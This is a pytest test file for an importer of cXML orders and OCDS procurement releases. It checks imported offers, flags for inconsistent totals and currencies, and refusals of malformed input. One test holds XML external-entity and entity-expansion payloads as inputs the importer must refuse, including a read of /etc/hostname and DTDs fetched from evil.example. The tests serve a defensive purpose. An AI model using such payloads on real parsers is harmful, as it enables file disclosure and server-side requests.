"""OCDS and cXML: what is imported, what is flagged, what is refused."""

import json
from datetime import UTC, datetime

import pytest

from negotiator.errors import InvalidValueError
from negotiator.replay.importing import Options, Trap, import_cxml, import_ocds
from negotiator.replay.recorded import Ended, read_recordings, write_recordings
from negotiator.terms import Role
from tests.replay.importing.papers import OPEN, ORDER, award, cart, package

BOX = (
    '<PriceBasisQuantity quantity="2" conversionFactor="0.5"><UnitOfMeasure>BOX</UnitOfMeasure>'
    "</PriceBasisQuantity>"
)
CHANGE = '<AdditionalDeduction><DeductionPercent percent="10"/></AdditionalDeduction>'


def cxml(text, options=OPEN):
    return import_cxml(text.encode(), "d.xml", options)


def ocds(document, options=OPEN):
    return import_ocds(json.dumps(document).encode(), "d.json", options)


def refusal(run, *arguments):
    with pytest.raises(InvalidValueError) as caught:
        run(*arguments)
    return caught.value.message


def test_an_order_is_what_its_buyer_offers_line_by_line():
    imported = cxml(ORDER)
    assert not imported.findings
    first, second = imported.recordings
    assert (first.role, first.id) == (Role.BUYER, "i1-A-1.lamps.example")
    assert first.start == datetime(2026, 11, 2, 8, 30, tzinfo=UTC)
    assert (first.offers, second.offers) == (((210, 10),), ((320, 20),))
    data = write_recordings(imported.recordings)
    assert read_recordings(data, "again") == imported.recordings
    assert b"sesame" not in data


def test_a_header_that_counts_a_line_once_is_flagged():
    imported = cxml(cart())
    (found,) = imported.findings
    assert (found.trap, found.place) == (Trap.TOTAL, "d.xml, row 4")
    assert found.message.startswith("2 x 104.99 is 209.98, the header says 104.99")
    assert imported.items == ()
    assert len(cxml(cart(total="209.98")).recordings) == 1


@pytest.mark.parametrize(
    ("more", "trap", "told"),
    [
        ('<PriceBasisQuantity quantity="100"/>', Trap.PRICE_BASIS, "is for 100 (conversion"),
        (BOX, Trap.PRICE_BASIS, "is for 2 BOX (conversion factor 0.5)"),
        ('<PriceBasisQuantity quantity="1" conversionFactor="12"/>', Trap.PRICE_BASIS, "factor 12"),
        (f"<Modifications>{CHANGE}</Modifications>", Trap.PERCENTAGE, "10 % off or on"),
    ],
)  # fmt: skip
def test_a_price_for_several_and_a_percentage_are_flagged(more, trap, told):
    (found,) = cxml(cart(total="209.98", more=more)).findings
    assert (found.trap, found.place) == (trap, "d.xml, row 6, line 1")
    assert told in found.message


def test_a_percentage_on_the_whole_document_is_flagged_for_all_lines():
    change = '<Modifications><DeductionPercent percent="5"/></Modifications>'
    text = cart(total="209.98").replace("</Total>", f"</Total>{change}")
    imported = cxml(text)
    assert [found.trap for found in imported.findings] == [Trap.PERCENTAGE]
    assert imported.items == ()


def test_a_document_with_a_total_and_no_lines_is_about_the_total():
    text = cart()
    start, end = text.index("<ItemIn"), text.index("</ItemIn>") + len("</ItemIn>")
    (recording,) = cxml(text[:start] + text[end:]).recordings
    assert [issue.name for issue in recording.agenda.issues] == ["total"]
    assert recording.offers == ((10499,),)


@pytest.mark.parametrize(
    ("before", "after", "told"),
    [
        ('currency="EUR">2.10', 'currency="USD">2.10', "row 15, line 1: expected EUR"),
        ('currency="EUR">85', 'currency="USD">85', "expected USD as elsewhere"),
        ('currency="EUR">2.10', 'currency="EURO">2.10', "row 18, <Money> currency"),
        (">2.10<", "><", "row 18, <Money>: expected a number such as 12.50"),
        (">2.10<", ">2,10<", "row 18, <Money>: expected the decimal separator"),
        ('quantity="10"', 'quantity="0"', "row 15, <ItemOut> quantity"),
        ('quantity="10"', "", "row 15, <ItemOut>: expected the attribute quantity"),
        (">EA<", ">CARTON<", "row 15, line 1: expected a UN/ECE Rec 20"),
        ("09:30:00+01:00", "09:30:00", "row 12, <OrderRequestHeader> orderDate: expected an inst"),
        ("OrderRequest>", "InvoiceDetailRequest>", "expected <cXML> with one of QuoteMessage"),
        ("</cXML>", "", "expected well-formed XML"),
        ("lamps.example</Identity></Credential></From>", "</Identity></Credential></From>",
         "expected the identity of the sender"),
    ],
)  # fmt: skip
def test_a_document_is_refused_by_row_and_element(before, after, told):
    assert before in ORDER
    message = refusal(cxml, ORDER.replace(before, after))
    assert message.startswith("d.xml: ")
    assert told in message


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE cXML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE cXML SYSTEM "x.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
        "<!DOCTYPE cXML []>",
    ],
)
def test_entities_are_refused_as_they_are_declared(doctype):
    text = cart(total="209.98").replace(">chair<", ">&b;<")
    assert "without declarations and entities" in refusal(cxml, doctype + text)


def test_an_entity_that_an_outer_document_type_may_have_is_refused():
    text = '<!DOCTYPE cXML SYSTEM "http://evil.example/x.dtd">' + cart().replace("chair<", "&x;<")
    assert "d.xml: " in refusal(cxml, text)


@pytest.mark.parametrize(
    "text", ["<a>" * 100 + "</a>" * 100, "<a>" + "<b/>" * 200_001 + "</a>", "<a " + "x" * 5_000_000]
)
def test_deep_wide_and_huge_documents_are_refused(text):
    assert "expected at most" in refusal(cxml, text)


def test_a_document_in_latin_1_is_refused_whatever_it_says_of_itself():
    text = '<?xml version="1.0" encoding="ISO-8859-1"?>' + cart().replace("chair<", "chaisé<")
    told = refusal(lambda data: import_cxml(data, "d.xml", OPEN), text.encode("latin-1"))
    assert "row 7: expected UTF-8, got the byte 0xE9" in told


def test_only_the_expected_currency_is_taken():
    assert "foreign currency" in refusal(cxml, ORDER, Options(currency="USD"))
    assert "foreign currency" in refusal(ocds, package(award()), Options(currency="USD"))


def test_an_award_is_what_was_agreed():
    (recording,) = ocds(package(award())).recordings
    assert recording.ended is Ended.AGREED
    assert recording.agreed == recording.offers[0] == (140000, 200)
    assert recording.start == datetime(2026, 11, 1, 11, 0, tzinfo=UTC)
    again = read_recordings(write_recordings([recording]), "again")
    assert again == (recording,)


def test_a_bid_is_what_was_asked_and_one_that_was_withdrawn_is_not():
    def bid(name, amount, **more):
        return {
            "id": name,
            "date": "2026-10-20T08:00:00Z",
            "tenderers": [{"id": name}],
            "value": {"amount": amount, "currency": "EUR"},
        } | more

    bids = [bid("s-1", 280000), bid("s-2", 295000.5), bid("s-3", 1, status="withdrawn")]
    imported = ocds(package(bids=bids))
    assert [recording.offers for recording in imported.recordings] == [
        ((28000000,),),
        ((29500050,),),
    ]
    assert "withdrawn" in imported.recordings[0].source.notes[0]


@pytest.mark.parametrize(
    ("paper", "trap", "told"),
    [
        (award(amount=11000000, price=137000), Trap.TOTAL, "200 x 137000 is 27400000, the total"),
        (award(currency="USD"), Trap.MISSING_RATE, "the tender is in EUR, this in USD, with no"),
        (award(currency="USD", value={"amount": 280000, "currency": "USD", "exchangeRate": None}),
         Trap.MISSING_RATE, "with no exchangeRate"),
        (award(items=award()["items"] * 2), Trap.TOTAL, "the items come to 560000, the value is"),
    ],
)  # fmt: skip
def test_an_award_whose_numbers_do_not_agree_is_flagged(paper, trap, told):
    imported = ocds(package(paper))
    (found,) = imported.findings
    assert found.trap is trap
    assert found.place.startswith("d.json, releases[0].awards[0]")
    assert told in found.message
    assert imported.items == ()


def test_an_award_with_a_rate_stays_in_its_own_currency():
    value = {"amount": 280000, "currency": "USD", "exchangeRate": 1.08}
    (recording,) = ocds(package(award(currency="USD", value=value))).recordings
    assert recording.agenda.issues[0].unit == "USD"


@pytest.mark.parametrize(
    ("paper", "told"),
    [
        (award(value={"amount": 1, "currency": None}), "awards[0].value.currency: expected an ISO"),
        (award(value={"amount": "280000", "currency": "EUR"}), "awards[0].value.amount: expected"),
        (award(amount=0.0), "awards[0].value.amount: expected a number above 0"),
        (award(amount=75464.95999999999), "awards[0].value.amount"),
        (award(value=None), "awards[0].value: expected an object"),
        (award(suppliers=[{"id": "a"}, {"id": "b"}]), "expected one organisation, got 2"),
        (award(date="2026-11-01"), "awards[0].date: expected an instant"),
        (award(status="cancelled"), "expected awards or bids with a value, got releases[0]"),
        (award(items=[{"quantity": 200, "unit": {"id": "SMI", "value":
            {"amount": 1400, "currency": "EUR"}}}]), "items[0]: expected a UN/ECE Rec 20"),
        (award(items=[{"quantity": 200, "unit": {"id": "C62", "value":
            {"amount": 1400, "currency": "USD"}}}]), "items[0].unit.value.currency: expected EUR"),
    ],
)  # fmt: skip
def test_a_release_is_refused_by_path_and_field(paper, told):
    message = refusal(ocds, package(paper))
    assert message.startswith("d.json: ")
    assert told in message


@pytest.mark.parametrize(
    "text",
    ['{"releases":[', '{"releases":[],"releases":[]}', "[]", '{"records":[]}', '{"releases":[]}',
     '{"releases":[{"date":"2026-11-02T08:00:00Z"}]}', '{"a":' * 50_000, '{"ocid":NaN}'],
)  # fmt: skip
def test_malformed_packages_are_refused(text):
    assert refusal(lambda data: import_ocds(data, "d.json", OPEN), text.encode()).startswith("d.js")


def test_of_several_releases_the_latest_counts_and_a_contradiction_is_refused():
    old, new = package(award(amount=1, items=[])), package(award(), date="2026-11-03T08:00:00Z")
    both = {"releases": new["releases"] + old["releases"]}
    assert [recording.offers for recording in ocds(both).recordings] == [((140000, 200),)]
    torn = {"releases": old["releases"] + package(award())["releases"]}
    assert "which one counts?" in refusal(ocds, torn)
    same = {"releases": old["releases"] * 2}
    assert len(ocds(same).recordings) == 1
